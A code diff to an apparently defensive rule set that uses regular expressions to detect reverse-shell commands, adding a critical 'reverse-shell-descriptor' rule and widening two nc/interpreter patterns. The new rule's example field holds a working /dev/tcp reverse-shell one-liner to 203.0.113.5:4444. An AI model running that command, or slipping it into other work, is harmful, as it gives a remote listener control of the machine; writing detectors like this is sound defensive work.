@@ -470,11 +470,11 @@ RULES: tuple[Rule, ...] = (
             rf"|{_AT_START}(?:nc|ncat|netcat|nc\.traditional)\s(?:.*\s)?"
             rf"(?:(?-i:-[a-zA-Z]*[ec])|--exec|--sh-exec)[\s=]+['\"]?{_SHELL_NAMES}\b"
             rf"|{_AT_START}socat\s.*\b(?:exec|system):['\"]?{_SHELL_NAMES}\b"
-            rf"|(?:^|[|;]\s*){_SHELL_NAMES}(?:\s+-\S+)*\s*\|\s*(?:nc|ncat|netcat|telnet|socat"
+            rf"|(?:^|[|;]\s*){_SHELL_NAMES}(?:\s+-\S+|\s+\d*<\s*\S+)*\s*\|\s*(?:nc|ncat|netcat|telnet|socat"
             r"|openssl\s+s_client)\b"
             rf"|(?:^|\|\s*)(?:nc|ncat|netcat|telnet|socat|openssl\s+s_client)\b[^|]*\|\s*"
             rf"{_SHELL_NAMES}(?:\s|$)"
-            rf"|{_AT_START}{_INTERP}\s(?:.*\s)?-[a-z]*[cer]\s(?=.*(?:\bsocket\b|fsockopen|TCPSocket"
+            rf"|{_AT_START}{_INTERP}\s(?:.*\s)?-[a-z]*[cer](?=.*(?:\bsocket\b|fsockopen|TCPSocket"
             r"|net\.(?:connect|Socket)))(?=.*(?:dup2|pty\.spawn|/bin/(?:ba|z|da)?sh\b|cmd\.exe"
             r"|\bexec\b|\bspawn\b|popen))"
         ),
@@ -484,6 +484,23 @@ RULES: tuple[Rule, ...] = (
         utility=_re(
             rf"{_SHELL_NAMES}|nc|ncat|netcat|nc\.traditional|socat|telnet|openssl|{_INTERP}"
         ),
+    ),
+    Rule(
+        "reverse-shell-descriptor",
+        Risk.CRITICAL,
+        "Connects a shell to a remote host through a descriptor or a named pipe: whoever "
+        "listens there runs commands on this machine.",
+        _re(
+            # a descriptor opened on /dev/tcp that a shell, or a read-and-run loop, then reads
+            rf"\d+<>\s*/dev/(?:tcp|udp)/.*(?:(?:^|[;&|]\s*){_SHELL_NAMES}\s[^;|]*<&\s*\d"
+            r"|\bdo\s+\$\w+)"
+            # a shell reading a pipe file and writing into a connection (the back pipe)
+            rf"|(?:^|[;&|]\s*){_SHELL_NAMES}(?:\s+-\S+)*\s+\d*<\s*\S+\s*\|\s*"
+            r"(?:nc|ncat|netcat|telnet|socat|openssl\s+s_client)\b"
+        ),
+        example="exec 5<>/dev/tcp/203.0.113.5/4444; sh <&5 >&5 2>&5",
+        near_miss="exec 5<>/dev/tcp/203.0.113.5/80; cat <&5",
+        scope="raw",
     ),
     Rule(
         "secret-upload",
